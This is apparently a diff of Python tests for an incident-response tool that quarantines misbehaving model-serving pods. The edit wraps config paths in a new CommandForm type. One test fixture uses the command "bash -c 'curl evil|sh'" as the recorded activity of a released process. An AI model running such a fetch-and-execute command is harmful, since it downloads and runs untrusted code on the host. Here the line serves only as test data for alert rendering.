@@ -12,7 +12,7 @@ from hypothesis import HealthCheck, given, settings
 from responder.actions.outcome import ActionOutcome, OutcomeStatus
 from responder.cluster.verify import Verification, VerificationStatus
 from responder.config import ActionName
-from responder.incident import TRIES_OVER, AlertingAfterRelease, IncidentReport
+from responder.incident import TRIES_OVER, AlertingAfterRelease, CommandForm, IncidentReport
 from responder.notify.render import (
     MessageKind,
     format_utc,
@@ -93,7 +93,7 @@ def test_the_last_try_still_withheld_says_nothing_more_is_tried_and_gives_the_co
         extra={"retried": True, TRIES_OVER: 5},
     )
     report = api_down_report(over)
-    command = report.quarantine_command("/etc/serving-guard/config.yaml")
+    command = report.quarantine_command(CommandForm("/etc/serving-guard/config.yaml"))
     assert command is not None and command.startswith(
         f"serving-guard quarantine --namespace ml triton-0 --incident {INCIDENT}"
     )
@@ -148,7 +148,7 @@ def released_report(cmdline: str) -> IncidentReport:
 
 def test_the_first_repeat_after_a_release_shows_what_it_ran_and_the_command_again() -> None:
     report = released_report("bash -c 'curl evil|sh'")
-    message = render_repeat(report, "/etc/serving-guard/config.yaml")
+    message = render_repeat(report, CommandForm("/etc/serving-guard/config.yaml"))
     assert_valid(message)
     assert message.kind is MessageKind.REPEAT
     text = visible_text(message.blocks_json())
